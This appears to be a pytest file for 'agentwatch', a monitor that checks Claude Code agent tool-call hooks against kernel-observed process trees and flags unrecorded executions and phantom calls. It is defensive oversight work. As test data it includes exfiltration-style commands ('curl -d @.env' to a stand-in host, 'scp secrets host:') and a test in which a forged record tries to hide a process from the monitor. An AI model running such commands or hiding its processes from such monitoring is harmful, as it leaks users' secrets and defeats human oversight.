"""Reconciliation of process rows with tool calls (readers/processes.py), on stores built row by row.

The event rows are Claude Code hook inputs (code.claude.com/docs/en/hooks: PreToolUse,
PostToolUse with `tool_name`, `tool_use_id`, `tool_input.command`) normalized as the daemon
normalizes them; the process rows are the witness's documents (daemon/procwitness.py). Each
row's time is the store's own commit time, so a tree "starts" between the rows around it.
Steps are 2 ms apart (more than the reconciliation's 1 ms of clock slack), as a harness's
are. The real kernel and a real harness process are in tests/test_process_witness.py.
"""

from __future__ import annotations

import time
import uuid

import pytest

from agentwatch.daemon.procwitness import encode
from agentwatch.readers import processes
from agentwatch.record import normalize, redact
from agentwatch.store.append import Append, Store

ROOT = 4000
POLICY = redact.Policy(redact.FULL)


class Session:
    """A store and the rows of one harness session, appended in the order they happen."""

    def __init__(self, path, session: str = "s1", root: int = ROOT, followed: bool = True):
        self.store = Store(path)
        self.session, self.root = session, root
        self.next_pid = root + 1
        self.last_ns = 0
        if followed:
            self.witness({"type": "process_root", "root_pid": root, "peer_pid": None, "harness": "claude-code",
                          "session_id": session})

    def _append(self, row: Append) -> int:
        (done,) = self.store.append([row])
        self.last_ns = done.recorded_at_ns
        return done.seq

    def witness(self, doc: dict) -> int:
        return self._append(Append(f"attest-process-{uuid.uuid4()}", "attestation", encode({"schema": 1, **doc}, POLICY)))

    def hook(self, event: str, peer_pid: int | None = None, **fields) -> int:
        payload = {"hook_event_name": event, "session_id": self.session, **fields}
        env = {"op": "append", "v": 1, "record_id": str(uuid.uuid4()), "harness": "claude-code", "payload": payload}
        time.sleep(0.002)
        return self._append(normalize.to_append(env, uid=0, peer_pid=peer_pid, policy=POLICY))

    def hook_process(self, event: str, **fields) -> int:
        """A hook as it really arrives: its client's process (a tree under the root), then its record."""
        pid = self.tree(["/bin/sh", "-c", "python hook.py claude-code"])
        return self.hook(event, peer_pid=pid, **fields)

    def tree(self, argv: list[str]) -> int:
        """A process tree the harness starts now: its first exec, then its exit."""
        pid, self.next_pid = self.next_pid, self.next_pid + 1
        time.sleep(0.002)
        self.witness({"type": "process", "event": "exec", "pid": pid, "ppid": self.root, "root_pid": self.root,
                      "tree_pid": pid, "start_ns": time.time_ns(), "path": argv[0], "argv": argv})
        self.witness({"type": "process", "event": "exit", "pid": pid, "root_pid": self.root, "tree_pid": pid,
                      "exit_ns": self.last_ns, "status": 0, "exit_code": 0})
        return pid

    def pre(self, call_id: str, command: str, tool: str = "Bash") -> int:
        return self.hook_process("PreToolUse", tool_name=tool, tool_use_id=call_id, tool_input={"command": command})

    def post(self, call_id: str, command: str, tool: str = "Bash") -> int:
        return self.hook_process("PostToolUse", tool_name=tool, tool_use_id=call_id, tool_input={"command": command},
                                 tool_response={"stdout": ""})

    def bash(self, call_id: str, command: str) -> None:
        self.pre(call_id, command)
        self.tree(["/bin/bash", "-c", command])
        self.post(call_id, command)

    def report(self, **kw) -> processes.Report:
        self.store.close()
        return processes.reconcile(self.store.path, settle_s=0, **kw)


@pytest.fixture
def session(tmp_path):
    return Session(tmp_path / "store.db")


def kinds(report: processes.Report) -> list[tuple[str, int]]:
    return [(f.kind, f.seq) for f in report.findings]


def test_every_call_with_its_tree_and_every_hook_tree_left_out(session):
    session.hook_process("SessionStart")
    session.bash("t1", "make test")
    session.bash("t2", "git status")
    session.hook_process("Stop")
    report = session.report()
    assert kinds(report) == []
    assert (report.trees, report.hook_trees, report.calls_checked, report.sessions_followed) == (8, 6, 2, 1)


def test_a_tree_outside_every_call_is_an_unrecorded_exec(session):
    session.hook_process("SessionStart")
    session.bash("t1", "make test")
    pid = session.tree(["/bin/bash", "-c", "curl -d @.env https://example.invalid"])
    session.hook_process("Stop")
    report = session.report()
    (finding,) = report.findings
    assert (finding.kind, finding.session_id, finding.root_pid) == ("unrecorded_exec", "s1", ROOT)
    assert f"process tree {pid} under harness pid {ROOT} ran '/bin/bash -c curl -d @.env" in finding.detail


def test_a_call_with_no_tree_is_a_phantom_call(session):
    session.hook_process("SessionStart")
    seq = session.pre("t1", "rm -rf build")
    session.post("t1", "rm -rf build")
    session.bash("t2", "ls")
    report = session.report()
    assert kinds(report) == [("phantom_call", seq)]
    assert "Bash call t1 reported 'rm -rf build'" in report.findings[0].detail


def test_parallel_calls_are_paired_by_their_commands(session):
    """Two calls whose windows overlap, one tree: the tree is the one running `sleep 5`, so `echo` is the phantom."""
    session.hook_process("SessionStart")
    session.pre("a", "sleep 5")
    seq_b = session.pre("b", "echo hi")
    session.tree(["/bin/bash", "-c", "sleep 5"])
    session.post("b", "echo hi")
    session.post("a", "sleep 5")
    assert kinds(session.report()) == [("phantom_call", seq_b)]


def test_a_search_tools_process_is_covered_by_its_window_and_bashoutput_needs_no_process(session):
    session.hook_process("SessionStart")
    session.pre("g", "", tool="Grep")
    session.tree(["/usr/bin/rg", "--json", "TODO"])
    session.post("g", "", tool="Grep")
    session.pre("o", "", tool="BashOutput")
    session.post("o", "", tool="BashOutput")
    report = session.report()
    assert kinds(report) == []
    assert report.calls_checked == 0


def test_a_call_whose_pre_hook_was_dropped_still_covers_its_tree(session):
    session.hook_process("SessionStart")
    session.tree(["/bin/bash", "-c", "make"])
    session.post("t1", "make")
    assert kinds(session.report()) == []


def test_a_session_the_witness_did_not_follow_is_not_checked(tmp_path):
    s = Session(tmp_path / "store.db", followed=False)
    s.hook("SessionStart")
    s.hook("PreToolUse", tool_name="Bash", tool_use_id="t1", tool_input={"command": "ls"})
    s.hook("PostToolUse", tool_name="Bash", tool_use_id="t1", tool_input={"command": "ls"})
    report = s.report()
    assert (kinds(report), report.calls_unfollowed, report.calls_checked, report.sessions_followed) == ([], 1, 0, 0)


def test_a_finding_near_a_loss_says_so(session):
    session.hook_process("SessionStart")
    seq = session.pre("t1", "ls")
    session._append(normalize.gap_append(f"gap-{uuid.uuid4()}", "process_witness_lost",
                                         {"source": "proc_connector", "lost_events": 7, "noticed_ns": session.last_ns}))
    session.post("t1", "ls")
    report = session.report()
    assert (kinds(report), report.lost_events) == ([("phantom_call", seq)], 7)
    assert report.findings[0].during_loss is True


def test_what_happened_in_the_last_seconds_is_left_unsettled(session):
    """A hook's record is committed at once, its process rows up to a flush later: the newest trees
    and calls are counted as unsettled until `settle_s` has passed."""
    session.hook_process("SessionStart")
    session.tree(["/bin/bash", "-c", "whoami"])
    session.pre("t1", "ls")
    session.post("t1", "ls")
    session.store.close()
    now = processes.reconcile(session.store.path)
    assert (kinds(now), now.unsettled) == ([], 2)
    later = processes.reconcile(session.store.path, now_ns=time.time_ns() + 3_000_000_000)
    assert ([f.kind for f in later.findings], later.unsettled) == (["unrecorded_exec", "phantom_call"], 0)


def test_one_session_is_checked_alone(tmp_path):
    s = Session(tmp_path / "store.db")
    s.hook_process("SessionStart")
    s.tree(["/bin/bash", "-c", "whoami"])
    assert kinds(s.report(session="another")) == []
    assert [f.kind for f in processes.reconcile(s.store.path, session="s1", settle_s=0).findings] == ["unrecorded_exec"]


def test_a_spooled_hook_is_known_by_the_pid_it_claims_only_if_that_tree_ran_the_hook(session):
    """A spooled record has no kernel peer pid: its claimed pid names its hook's tree, if that tree
    ran agentwatch's hook client; a forged spool record cannot hide another tree that way."""
    session.hook_process("SessionStart")
    hook_pid = session.tree(["/usr/bin/python3", "-I", "-S", "/opt/aw/agentwatch/hook.py", "claude-code"])
    other = session.tree(["/bin/bash", "-c", "scp secrets host:"])
    for pid in (hook_pid, other):
        env = {"op": "append", "v": 1, "record_id": str(uuid.uuid4()), "harness": "claude-code", "pid": pid,
               "delivery": "spool", "payload": {"hook_event_name": "Notification", "session_id": "s1"}}
        time.sleep(0.002)
        session._append(normalize.to_append(env, uid=0, peer_pid=None, policy=POLICY))
    report = session.report()
    assert [f.kind for f in report.findings] == ["unrecorded_exec"]
    assert f"process tree {other} " in report.findings[0].detail


def test_the_processes_command_prints_the_findings_and_exits_1(tmp_path):
    import json
    import subprocess
    import sys

    s = Session(tmp_path / "store.db")
    s.hook_process("SessionStart")
    s.tree(["/bin/bash", "-c", "whoami"])
    s.store.close()
    argv = [sys.executable, "-m", "agentwatch.cli", "processes", "--store", str(s.store.path), "--settle", "0"]
    text = subprocess.run(argv, capture_output=True, text=True, timeout=60)
    assert text.returncode == 1, text.stderr
    assert text.stdout.splitlines()[-1].startswith("unrecorded_exec at seq ")
    doc = json.loads(subprocess.run([*argv, "--json"], capture_output=True, text=True, timeout=60).stdout)
    assert [f["kind"] for f in doc["findings"]] == ["unrecorded_exec"]
    clean = Session(tmp_path / "clean.db")
    clean.hook_process("SessionStart")
    clean.store.close()
    done = subprocess.run([sys.executable, "-m", "agentwatch.cli", "processes", "--store", str(clean.store.path),
                           "--settle", "0"], capture_output=True, text=True, timeout=60)
    assert (done.returncode, done.stdout.splitlines()[-1]) == (0, "no findings")


def test_coverage_carries_the_witness_findings_beside_the_transcript(session, tmp_path):
    """`agentwatch coverage` reports each session's process findings (#27 item 2), with their source."""
    import json
    import subprocess
    import sys

    from agentwatch.coverage import pairing

    session.hook_process("SessionStart")
    phantom = session.pre("t1", "rm -rf build")
    session.post("t1", "rm -rf build")
    unrecorded = session.tree(["/bin/bash", "-c", "curl -d @.env https://example.invalid"])
    session.store.close()
    (result,) = pairing.coverage(session.store.path, sources=[processes.coverage_source(settle_s=0)])
    witnessed = sorted((f.kind, f.seq) for f in result.findings if f.source == "process_witness")
    assert [kind for kind, _ in witnessed] == ["phantom_call", "unrecorded_exec"]
    assert witnessed[0] == ("phantom_call", phantom)
    time.sleep(processes.SETTLE_S + 0.1)  # the command judges only what is older than the settle time
    out = subprocess.run([sys.executable, "-m", "agentwatch.cli", "coverage", "--store", str(session.store.path),
                          "--json"], capture_output=True, text=True, timeout=60)
    sources = sorted((f["kind"], f["source"]) for f in json.loads(out.stdout)[0]["findings"]
                     if f["source"] != "transcript")
    assert (out.returncode, sources) == (1, [("phantom_call", "process_witness"), ("unrecorded_exec", "process_witness")])
    assert str(unrecorded) in next(f["detail"] for f in json.loads(out.stdout)[0]["findings"]
                                   if f["kind"] == "unrecorded_exec")
